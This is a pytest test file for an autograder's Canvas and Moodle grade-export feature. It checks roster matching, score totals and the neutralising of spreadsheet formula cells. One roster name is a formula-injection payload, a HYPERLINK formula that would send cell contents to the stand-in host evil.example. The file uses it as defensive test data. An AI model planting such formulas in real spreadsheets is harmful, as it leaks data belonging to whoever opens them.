"""Rosters and the Canvas / Moodle grade imports, read back by parsers of the documented formats."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.instructor import lms
from autograder.instructor.roster import RosterError, match, parse_roster, read_roster
from lms_import import canvas_import, moodle_import

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
LEVEL_COLUMNS = ["Level 1: numpy by hand", "Level 2: torch tensors by hand"]

#: directory -> per-level scores (None: a grader error for that student)
CLASS = {
    "alice": {1: 12.5, 2: 10.0},
    "bob": {1: 3.25, 2: 0.0},
    "carol-not-enrolled": {1: 12.5, 2: 12.5},
    "dave": None,
    "-frank": {1: 1.0, 2: 2.0},
}


def _graded_class(tmp_path: Path) -> Path:
    """OUT/reports/ as ``grade CLASS --out OUT`` leaves it (only what the exports read)."""
    out = tmp_path / "out"
    (out / "reports").mkdir(parents=True)
    for directory, scores in CLASS.items():
        data = {"submission": str(tmp_path / "class" / directory), "levels": {}, "errors": []}
        if scores is None:
            data["errors"] = ["the grader failed: RuntimeError"]
            data["levels"] = {"1": {"score": 0.0, "max_score": 12.5}, "2": {"score": 0.0, "max_score": 12.5}}
        else:
            data["levels"] = {str(lv): {"score": s, "max_score": 12.5} for lv, s in scores.items()}
        (out / "reports" / f"{directory.lstrip('-')}.json").write_text(json.dumps(data))
    return out


def _run_lms(out: Path, roster: Path, *extra: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    return subprocess.run(
        [sys.executable, "-m", "autograder", "lms", str(out), "--roster", str(roster), *extra],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


def _no_formula_cells(text: str) -> None:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


KIT_ROSTER = """directory,student_id,name,section,email
alice,1001,"Liddell, Alice",A1,alice@uni.example
bob,1002,"{HYPERLINK}",A1,bob@uni.example
dave,1004,"Jones, Dave",B2,dave@uni.example
erin,1005,"Erinsdottir, Erin",B2,erin@uni.example
-frank,1006,"Frank, Frances",B2,frank@uni.example
""".replace("{HYPERLINK}", HOSTILE_NAME.replace('"', '""'))


def test_kit_roster_to_canvas_and_moodle(tmp_path):
    out = _graded_class(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(KIT_ROSTER)
    proc = _run_lms(out, roster)
    assert proc.returncode == 0, proc.stderr
    canvas = (out / "canvas.csv").read_text()
    moodle = (out / "moodle.csv").read_text()
    _no_formula_cells(canvas)
    _no_formula_cells(moodle)

    points, students = canvas_import(canvas)
    assert points == {c: 12.5 for c in LEVEL_COLUMNS}
    expected = {"1001": 22.5, "1002": 3.25, "1006": 3.0}
    for sis_id, total in expected.items():
        assert sum(students[("SIS User ID", sis_id)].values()) == pytest.approx(total)
    assert set(students[("SIS User ID", "1004")].values()) == {None}  # a grader error is never a score
    assert set(students[("SIS User ID", "1005")].values()) == {None}  # no submission: left as it was
    assert len(students) == 5  # every roster student, and only them

    grades = moodle_import(moodle, "ID number")
    for number, total in expected.items():
        assert sum(grades[number].values()) == pytest.approx(total)
    assert grades["1005"] == {c: None for c in LEVEL_COLUMNS}
    assert moodle_import(moodle, "Email address")["alice@uni.example"] == {
        LEVEL_COLUMNS[0]: 12.5,
        LEVEL_COLUMNS[1]: 10.0,
    }

    unmatched = list(csv.DictReader(io.StringIO((out / "lms_unmatched.csv").read_text())))
    assert [(u["directory"], u["total"]) for u in unmatched] == [("carol-not-enrolled", "25")]
    assert "carol-not-enrolled" in proc.stdout and "dave" in proc.stdout


def test_missing_students_can_get_an_explicit_zero_and_one_total_column(tmp_path):
    out = _graded_class(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(KIT_ROSTER)
    assert _run_lms(out, roster, "--missing", "zero", "--lms-columns", "total").returncode == 0
    points, students = canvas_import((out / "canvas.csv").read_text())
    assert points == {lms.TOTAL_COLUMN: 25.0}
    assert students[("SIS User ID", "1005")] == {lms.TOTAL_COLUMN: 0.0}
    assert students[("SIS User ID", "1001")] == {lms.TOTAL_COLUMN: 22.5}
    assert students[("SIS User ID", "1004")] == {lms.TOTAL_COLUMN: None}  # the error stays empty
    assert moodle_import((out / "moodle.csv").read_text(), "ID number")["1005"] == {lms.TOTAL_COLUMN: 0.0}


CANVAS_EXPORT = (
    ("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101),Quiz 1 (88102),Current Score\n")
    + """    Points Possible,,,,,12.50,10.00,(read only)
"Liddell, Alice",501,S1001,alice,Section A,,9,90
"Bob, Robert",502,S1002,bob,Section A,5,8,80
"Student, Test",503,,,Section A,,,
"Jones, Dave",504,S1004,dave,Section B,,7,70
"""
)


def test_a_canvas_export_is_a_roster_and_its_assignment_is_updated(tmp_path):
    roster = parse_roster(CANVAS_EXPORT.lstrip("\ufeff"))
    assert roster.kind == "canvas"
    assert [e.sis_login_id for e in roster.entries] == ["alice", "bob", "dave"]
    out = _graded_class(tmp_path)
    path = tmp_path / "canvas_export.csv"
    path.write_bytes(CANVAS_EXPORT.encode("utf-8"))
    proc = _run_lms(out, path)
    assert proc.returncode == 0, proc.stderr
    points, students = canvas_import((out / "canvas.csv").read_text())
    # the existing assignment keeps its id (Canvas updates it); level 2 is a new one, with its points
    assert set(points) == {"Level 1: numpy by hand (88101)", LEVEL_COLUMNS[1]}
    assert students[("ID", "501")] == {"Level 1: numpy by hand (88101)": 12.5, LEVEL_COLUMNS[1]: 10.0}
    assert students[("ID", "502")] == {"Level 1: numpy by hand (88101)": 3.25, LEVEL_COLUMNS[1]: 0.0}
    assert set(students[("ID", "504")].values()) == {None}
    header = next(csv.reader(io.StringIO((out / "canvas.csv").read_text())))
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    unmatched = {u["directory"] for u in csv.DictReader(io.StringIO((out / "lms_unmatched.csv").read_text()))}
    assert unmatched == {"carol-not-enrolled", "'-frank"}  # listed, its name neutralised


MOODLE_EXPORT = (
    (
        "First name,Last name,ID number,Institution,Department,Email address,Assignment: Level 1 (Real),"
        "Last downloaded from this course\n"
    )
    + """Alice,Liddell,1001,Uni,CS,alice@uni.example,-,1700000000
Robert,Bob,1002,Uni,CS,bob@uni.example,-,1700000000
Frances,Frank,,Uni,CS,-frank@uni.example,-,1700000000
Erin,Erinsdottir,1005,Uni,CS,erin@uni.example,-,1700000000
"""
)


def test_a_moodle_export_is_a_roster(tmp_path):
    out = _graded_class(tmp_path)
    path = tmp_path / "moodle_export.csv"
    path.write_text(MOODLE_EXPORT)
    proc = _run_lms(out, path, "--missing", "zero")
    assert proc.returncode == 0, proc.stderr
    grades = moodle_import((out / "moodle.csv").read_text(), "Email address")
    assert grades["alice@uni.example"] == {LEVEL_COLUMNS[0]: 12.5, LEVEL_COLUMNS[1]: 10.0}
    assert grades["bob@uni.example"] == {LEVEL_COLUMNS[0]: 3.25, LEVEL_COLUMNS[1]: 0.0}
    assert grades["'-frank@uni.example"] == {LEVEL_COLUMNS[0]: 1.0, LEVEL_COLUMNS[1]: 2.0}  # neutralised
    assert grades["erin@uni.example"] == {LEVEL_COLUMNS[0]: 0.0, LEVEL_COLUMNS[1]: 0.0}
    _no_formula_cells((out / "moodle.csv").read_text())


def test_matching_never_drops_a_submission():
    roster = parse_roster("directory,student_id,name,section\nAlice,1,A,\n,2,B,\n,alice2,C,\n")
    m = match(roster, ["alice", "2", "ALICE", "zed"])
    assert set(m.matched) == {"2", "ALICE"}  # case does not matter; sorted order decides ties
    assert dict(m.unmatched) == {"alice": "its roster entry is already matched by ALICE", "zed": "not in the roster"}
    ambiguous = parse_roster("directory,student_id,name,section,email\n,x,A,,a@u\n,y,B,,x\n")
    assert match(ambiguous, ["x"]).unmatched[0][1].startswith("matches several roster entries")
    assert [e.name for e in ambiguous.find(" X ")] == ["A", "B"]  # what issue 20's file-name mapping asks
    assert [e.name for e in parse_roster(CANVAS_EXPORT.lstrip("\ufeff")).find("S1002")] == ["Bob, Robert"]


def test_an_unknown_roster_is_refused_before_grading(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("who,what\nme,that\n")
    with pytest.raises(RosterError):
        read_roster(roster)
    (tmp_path / "class" / "alice").mkdir(parents=True)
    env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder",
            "grade",
            str(tmp_path / "class"),
            "--out",
            str(tmp_path / "out"),
            "--roster",
            str(roster),
        ],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert proc.returncode == 2 and "no header the kit knows" in proc.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_grade_a_class_with_a_roster_end_to_end(tmp_path):
    """``grade CLASS --out OUT --roster``: the real grader, then the imports read back."""
    cls = tmp_path / "class"
    for name, source in (
        ("alice", ROOT / "solutions" / "level1_numpy.py"),
        ("bob", ROOT / "tests" / "corpus" / "broken" / "l1_loss_mean" / "level1_numpy.py"),
        ("zoe-late", ROOT / "solutions" / "level1_numpy.py"),
    ):
        (cls / name).mkdir(parents=True)
        (cls / name / "level1_numpy.py").write_text(source.read_text())
    roster = tmp_path / "roster.csv"
    roster.write_text(
        'directory,student_id,name,section\nalice,1001,"Liddell, Alice",A\n'
        'bob,1002,"Bob, Robert",A\nerin,1005,"Erinsdottir, Erin",B\n'
    )
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "autograder",
            "grade",
            str(cls),
            "--out",
            str(out),
            "--level",
            "1",
            "--jobs",
            "1",
            "--roster",
            str(roster),
            "--missing",
            "zero",
        ],
        check=False,
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    totals = {r["student"]: float(r["total"]) for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
    assert totals["alice"] == 12.5 and totals["bob"] < 12.5
    _, students = canvas_import((out / "canvas.csv").read_text())
    assert students[("SIS User ID", "1001")] == {LEVEL_COLUMNS[0]: totals["alice"]}
    assert students[("SIS User ID", "1002")] == {LEVEL_COLUMNS[0]: totals["bob"]}
    assert students[("SIS User ID", "1005")] == {LEVEL_COLUMNS[0]: 0.0}
    assert moodle_import((out / "moodle.csv").read_text(), "ID number")["1002"] == {LEVEL_COLUMNS[0]: totals["bob"]}
    assert "zoe-late" in (out / "lms_unmatched.csv").read_text() and "zoe-late" in proc.stdout
    # the similarity pass ran too: alice and zoe-late handed in the same file (and bob's is the
    # reference with one mistake, so it is flagged with both)
    summary = json.loads((out / "summary.json").read_text())
    assert ("alice", "zoe-late", 1, 1.0) in [
        (f["a"], f["b"], f["level"], f["score"]) for f in summary["similarity"]["flagged"]
    ]
    assert (out / "similarity.html").is_file()
